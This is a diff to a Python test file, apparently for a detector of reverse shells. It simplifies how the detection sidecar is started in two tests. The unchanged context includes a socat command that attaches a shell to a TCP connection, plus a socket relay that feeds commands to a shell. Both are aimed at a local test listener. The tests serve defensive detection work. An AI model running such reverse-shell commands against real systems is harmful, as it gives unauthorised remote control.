@@ -34,11 +34,7 @@ def listener(host: str = "127.0.0.1") -> Iterator[tuple[socket.socket, int]]:
 
 
 def test_reverse_shell_finding_and_benign_look_alikes(task_env: TaskEnv, tmp_path: Path) -> None:
-    sidecar = task_env.start_sidecar(
-        ["run", "--findings-out", str(tmp_path / "f.jsonl"), "--events-out", str(tmp_path / "e.jsonl")]
-    )
-    sidecar.wait_for_event(lambda e: e["kind"] == "process.exec", timeout=20)
-    time.sleep(1.5)
+    sidecar = task_env.start_detecting(tmp_path)
     with listener("127.0.0.9") as (srv, port):
         # benign first: a shell on a pipe, a python client holding a connection, both must stay quiet
         task_env.run("app", ["sh", "-c", "echo 'sleep 0.5' | sh"])
@@ -88,8 +84,7 @@ def test_relay_started_shell(task_env: TaskEnv, tmp_path: Path) -> None:
         "b.close(); a.sendall(b'sleep 2; exit\\n'); p.wait()\n"
     )
     relay.chmod(0o755)
-    sidecar = task_env.start_sidecar(["run", "--findings-out", str(tmp_path / "f.jsonl")])
-    time.sleep(3)
+    sidecar = task_env.start_detecting(tmp_path)
     with listener("127.0.0.9") as (srv, port):
         task_env.run("app", ["/tmp/socat", "-", f"exec:sh,pty tcp:127.0.0.9:{port}"], wait=False)
         conn, _ = srv.accept()
